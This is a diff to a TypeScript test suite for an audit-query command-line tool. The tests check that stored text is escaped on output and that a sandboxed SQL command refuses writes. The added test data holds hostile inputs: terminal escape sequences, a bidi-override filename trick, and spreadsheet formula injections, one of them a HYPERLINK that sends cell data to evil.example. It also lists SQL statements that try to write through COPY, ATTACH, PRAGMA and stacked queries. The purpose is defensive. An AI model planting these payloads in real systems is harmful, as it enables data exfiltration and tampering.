@@ -9,7 +9,8 @@ import { isolatedEnv, runCli, type RunResult } from '../helpers/infra';
 import { mapLimit } from '../../storage/concurrency';
 import { execFile } from 'node:child_process';
 import { join } from 'node:path';
-import { access, mkdir, writeFile } from 'node:fs/promises';
+import { createHash } from 'node:crypto';
+import { access, mkdir, readdir, readFile, stat, writeFile } from 'node:fs/promises';
 import { ROOT } from '../helpers/infra';
 
 const DAY = (d: number, h = 12, m = 0) => Date.UTC(2026, 3, d, h, m); // April 2026
@@ -58,6 +59,33 @@ const HOSTILE: [type: string, id: string][] = [
   ["it's", 'ty"pe'],
 ];
 
+/** Actors a hostile application (or a failed login's username) could store: terminal escapes, formulas, bidi. */
+const SCREEN_ACTORS = [
+  '\u001b[2J\u001b[1;1Hall clear',
+  '\u001b]0;pwned\u0007',
+  'admin\rroot',
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  '-2+3',
+  '@SUM(A1:A9)',
+  'two\nlines',
+  'bidi \u202Egnp.exe',
+  'c1 \u009b2J',
+];
+/** Anything a terminal acts on or that reorders text, except the newline between lines. */
+const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/;
+
+/** Every file under dir (but the consumer's work dir): path -> mode and sha256. */
+async function snapshot(dir: string): Promise<Map<string, string>> {
+  const out = new Map<string, string>();
+  for (const entry of await readdir(dir, { recursive: true, withFileTypes: true })) {
+    const path = join(entry.parentPath, entry.name);
+    if (!entry.isFile() || path.startsWith(join(dir, 'work'))) continue;
+    const mode = ((await stat(path)).mode & 0o777).toString(8);
+    out.set(path, `${mode} ${createHash('sha256').update(await readFile(path)).digest('hex')}`);
+  }
+  return out;
+}
+
 function lines(text: string): string[] {
   return text.split('\n').filter((l) => l !== '');
 }
@@ -102,6 +130,9 @@ describe('audit-query CLI on real S3 (every flag)', () => {
         await client.record({ eventId, objectType: type, objectId: id, action: k === 0 ? 'create' : 'update', occurredAt: DAY(2 + k, 6, n % 60), actorId: 'mallory', after: { id, k } });
       }
       hostileIds.set(`${type}\u0000${id}`, ids);
+    }
+    for (const [i, actorId] of SCREEN_ACTORS.entries()) {
+      await client.record({ eventId: `d0000000-0000-4000-8000-${String(i).padStart(12, '0')}`, objectType: 'screen', objectId: 'S-1', action: 'login_failed', occurredAt: DAY(2, 7, i), actorId });
     }
     expect(await client.flush(60_000)).toBe(true);
     await client.close();
@@ -262,7 +293,7 @@ describe('audit-query CLI on real S3 (every flag)', () => {
     });
 
     describe('reads the audit data and nothing else', () => {
-      const REFUSED = /SQL refused \(the sql command reads the audit view only\): (Permission Error|Invalid Input Error: Cannot change configuration option)/;
+      const REFUSED = /SQL refused \(the sql command reads the audit view only\): /;
       const scratch = join(ROOT, '.test-cache', `${vars.AUDIT_TOPIC}-sandbox`);
       // A readable local file with a name DuckDB's replacement scans recognise.
       const secret = join(scratch, 'secret.csv');
@@ -297,6 +328,49 @@ describe('audit-query CLI on real S3 (every flag)', () => {
         const target = join(scratch, 'copied-check.csv');
         expectUsageError(await q(['sql', `COPY (SELECT 1 AS x) TO '${target}'`]), REFUSED);
         await expect(access(target)).rejects.toMatchObject({ code: 'ENOENT' });
+      });
+
+      it('cannot write the cached files it reads, nor change or print anything but its result', async () => {
+        const cacheDir = vars.AUDIT_CACHE_DIR!;
+        const filled = await q(['sql', 'SELECT count(*)::INTEGER AS n FROM audit', '--format', 'json']);
+        expect(filled.code).toBe(0);
+        const before = await snapshot(cacheDir);
+        const data = [...before.keys()].filter((p) => p.endsWith('.sparse'));
+        expect(data.length).toBeGreaterThan(0);
+        // Complete data files are read-only on disk (root ignores the mode: the statement check is what stops it).
+        for (const p of data) expect(before.get(p)!.split(' ')[0]).toBe('444');
+        const target = data[0]!;
+        const statements: [string, string][] = [
+          ['COPY TO a cached data file', `COPY (SELECT * FROM audit LIMIT 1) TO '${target}' (FORMAT parquet)`],
+          ['COPY inside EXPLAIN ANALYZE', `EXPLAIN ANALYZE COPY (SELECT 1 AS x) TO '${target}' (FORMAT parquet)`],
+          ['a write through a table function', `SELECT * FROM query('COPY (SELECT 1 AS x) TO ''${target}'' (FORMAT parquet)')`],
+          ['ATTACH of a cached file', `ATTACH '${target}' AS forged`],
+          ['INSTALL', 'INSTALL parquet'],
+          ['LOAD', 'LOAD parquet'],
+          ['CREATE TABLE', 'CREATE TABLE forged AS SELECT * FROM audit'],
+          ['CREATE OR REPLACE VIEW audit', "CREATE OR REPLACE VIEW audit AS SELECT 'forged' AS action"],
+          ['SET', 'SET threads = 1'],
+          ['PRAGMA enable_profiling', 'PRAGMA enable_profiling'],
+          ['PRAGMA with output', "PRAGMA enable_profiling = 'json'"],
+          ['CHECKPOINT', 'CHECKPOINT'],
+          ['EXPORT DATABASE', `EXPORT DATABASE '${join(cacheDir, 'exported')}'`],
+          ['a write after a read', `SELECT 1; COPY (SELECT 1 AS x) TO '${target}' (FORMAT parquet)`],
+          ['a PRAGMA after a read, behind a comment', 'SELECT 1 /* ; */; PRAGMA enable_profiling'],
+          ['an empty statement', ' ; '],
+        ];
+        for (const [what, sql] of statements) {
+          const res = await q(['sql', sql]);
+          expect({ what, code: res.code, stdout: res.stdout, lines: lines(res.stderr).length }).toEqual({ what, code: 2, stdout: '', lines: 1 });
+          expect({ what, stderr: res.stderr }).toEqual({ what, stderr: expect.stringMatching(REFUSED) as unknown });
+        }
+        expect(await snapshot(cacheDir)).toEqual(before);
+        // Lookups sharing the cache still read the stored rows.
+        const history = await q(['--object', `invoice:${INVOICE}`]);
+        expect(ndjson<{ event_id: string }>(history.stdout).map((e) => e.event_id)).toEqual(SEQ_IDS);
+        // DESCRIBE, SHOW and SUMMARIZE are SELECTs to DuckDB: they run, and print only their result.
+        const described = await q(['sql', 'DESCRIBE audit', '--format', 'json']);
+        expect({ code: described.code, stderr: described.stderr }).toEqual({ code: 0, stderr: '' });
+        expect((JSON.parse(described.stdout) as { column_name: string }[]).map((c) => c.column_name)).toContain('event_id');
       });
 
       it('still answers ordinary queries over audit, joins and CTEs included', async () => {
@@ -407,6 +481,37 @@ describe('audit-query CLI on real S3 (every flag)', () => {
       expectUsageError(res, /storage unavailable: .*bucket no-such-bucket-for-audit-tests does not exist/);
       const sql = await q(['sql', 'SELECT 1'], { AUDIT_STORE_URL: 's3://no-such-bucket-for-audit-tests/x' });
       expectUsageError(sql, /bucket no-such-bucket-for-audit-tests does not exist/);
+    });
+  });
+
+  describe('hostile stored text', () => {
+    it('table output (history and sql) shows control and bidi characters escaped', async () => {
+      for (const args of [['--object', 'screen:S-1', '--format', 'table'], ['sql', "SELECT actor_id, action FROM audit WHERE object_type = 'screen' ORDER BY event_id", '--format', 'table']]) {
+        const res = await q(args);
+        expect({ args, code: res.code, stderr: res.stderr }).toEqual({ args, code: 0, stderr: '' });
+        expect({ args, active: ACTIVE.test(res.stdout) }).toEqual({ args, active: false });
+        expect(lines(res.stdout)).toHaveLength(2 + SCREEN_ACTORS.length);
+        expect(res.stdout).toContain('\\e[2J\\e[1;1Hall clear');
+        expect(res.stdout).toContain('bidi \\u202Egnp.exe');
+      }
+    });
+
+    it('csv neutralises formulas by default; ndjson returns the raw values', async () => {
+      const csv = await q(['--object', 'screen:S-1', '--format', 'csv']);
+      expect(csv.code).toBe(0);
+      expect(ACTIVE.test(csv.stdout.replace(/\r\n/g, '\n').replace(/"two\nlines"/, ''))).toBe(false);
+      expect(csv.stdout).toContain(',admin\\rroot,');
+      expect(csv.stdout).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
+      expect(csv.stdout).toContain(",'-2+3,");
+      expect(csv.stdout).toContain(",'@SUM(A1:A9),");
+      const raw = await q(['--object', 'screen:S-1', '--format', 'ndjson']);
+      expect(ndjson<{ actor_id: string }>(raw.stdout).map((e) => e.actor_id)).toEqual(SCREEN_ACTORS);
+    });
+
+    it('an error line quoting stored text escapes it', async () => {
+      const res = await q(['sql', "SELECT actor_id::INTEGER FROM audit WHERE object_type = 'screen' AND actor_id LIKE 'admin%'"]);
+      expectUsageError(res, /SQL failed: Conversion Error: .*admin\\rroot/);
+      expect(ACTIVE.test(res.stderr)).toBe(false);
     });
   });
 
